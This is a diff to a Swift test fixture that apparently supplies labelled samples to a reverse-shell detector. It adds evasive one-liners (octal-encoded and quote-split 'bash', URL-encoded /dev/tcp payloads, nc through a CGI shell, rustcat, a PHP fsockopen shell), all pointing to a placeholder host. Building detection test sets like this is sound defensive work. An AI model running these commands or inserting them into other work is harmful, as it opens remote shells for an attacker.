@@ -21,6 +21,16 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     ("H=198.51.100.9; P=4242; bash -i >& /dev/tcp/$H/$P 0>&1", "dev_tcp"),
     ("(sh)0>/dev/tcp/198.51.100.9/4242", "dev_tcp"), ("ksh -c 'ksh >/dev/tcp/198.51.100.9/4242 0>&1'", "dev_tcp"),
     ("exec /bin/sh 0</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
+    ("sh</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
+    ("$(printf '\\142\\141\\163\\150') -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
+    ("b'a's\"h\" -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
+    (
+      "curl 'http://app.example/run?q=1&c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4242%200%3E%261'",
+      "dev_tcp"
+    ),
+    ("GET /shell.cgi?cmd=nc+-e+/bin/sh+198.51.100.9+4242 HTTP/1.1", "nc"),
+    ("rustcat connect -s bash 198.51.100.9 4242", "nc"),
+    ("php -r '$s=fsockopen(\"tcp://198.51.100.9\",4242);exec(\"sh <&3 >&3 2>&3\");'", "php"),
     ("nc -e /bin/sh 198.51.100.9 4242", "nc"), ("nc 198.51.100.9 4242 -e bash", "nc"),
     ("nohup ncat --ssl 198.51.100.9 4242 --exec /bin/bash &", "nc"), ("nc -nv 198.51.100.9 4242 -c 'sh -i'", "nc"),
     ("nc 198.51.100.9 4242 | /bin/sh | nc 198.51.100.9 4243", "nc"),
